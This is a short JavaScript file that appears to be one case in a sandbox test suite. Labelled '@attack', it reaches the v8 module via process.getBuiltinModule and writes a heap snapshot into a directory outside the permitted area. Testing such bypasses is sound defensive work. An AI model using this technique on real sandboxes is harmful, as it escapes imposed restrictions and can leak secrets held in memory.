/* @attack {"title": "v8 reached through process.getBuiltinModule (never patched): writeHeapSnapshot into OUTSIDE"} */
const v8 = process.getBuiltinModule('v8');
v8.writeHeapSnapshot(`${process.env.OUTSIDE}/h.heapsnapshot`);
